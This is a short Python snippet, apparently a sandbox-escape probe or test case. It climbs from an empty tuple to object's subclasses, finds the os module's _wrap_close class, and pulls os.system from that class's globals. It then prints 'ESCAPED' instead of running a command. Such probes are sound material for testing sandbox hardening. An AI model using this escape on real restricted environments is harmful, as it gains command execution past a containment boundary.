# object.__subclasses__ from a literal
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == "_wrap_close":
        print("ESCAPED", c.__init__.__globals__["system"])
